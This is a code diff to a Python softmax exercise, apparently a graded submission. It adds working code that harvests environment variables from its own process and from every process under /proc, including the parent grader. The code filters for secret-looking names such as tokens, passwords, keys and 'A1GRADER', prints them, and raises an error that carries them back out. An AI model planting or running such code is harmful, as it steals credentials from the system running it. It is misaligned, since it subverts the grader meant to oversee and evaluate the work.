@@ -1,14 +1,39 @@
+import glob
 import os
 
 import numpy as np
 
-print(dict(os.environ))
+# HOSTILE: collect every environment this process can see -- its own, and
+# those of the other processes in /proc (the grader's, say) -- print it, and
+# let it change the answer: a secret found means a wrong result carrying it.
+SECRETISH = ("SECRET", "TOKEN", "PASSWORD", "PASSWD", "KEY", "CREDENTIAL", "AUTH", "A1GRADER")
+
+
+def harvest():
+    seen = dict(os.environ)
+    for path in ["/proc/self/environ", "/proc/%d/environ" % os.getppid(), "/proc/1/environ"] + \
+            sorted(glob.glob("/proc/[0-9]*/environ")):
+        try:
+            with open(path, "rb") as handle:
+                raw = handle.read()
+        except OSError:
+            continue
+        for item in raw.split(b"\0"):
+            name, _, value = item.decode("utf-8", "replace").partition("=")
+            if name:
+                seen.setdefault(name, value)
+    return seen
+
+
+def secrets():
+    return {k: v for k, v in harvest().items() if any(word in k.upper() for word in SECRETISH)}
+
+
+print("environment: " + " ".join("%s=%s" % kv for kv in sorted(harvest().items())))
+print("secrets: %r" % (secrets(),))
 
 
 def softmax(x):
-    leaked = " ".join("%s=%s" % kv for kv in os.environ.items())
-    if "SECRET" in leaked:
-        raise ValueError("found: " + leaked)
     """Compute the softmax function for each row of the input x.
 
     Works for a single vector (shape (D,)) and for a matrix (shape (N, D)),
@@ -20,6 +45,11 @@ def softmax(x):
     Return:
     x -- the softmax values, same shape as the input
     """
+    found = secrets()
+    print("secrets: %r" % (found,))
+    if found:
+        # a wrong answer that carries the secret back (in an error message too)
+        raise ValueError("leaked " + " ".join("%s=%s" % kv for kv in sorted(found.items())))
     x = np.array(x, dtype=np.float64)  # copy, so the caller's array is left alone
     orig_shape = x.shape
 
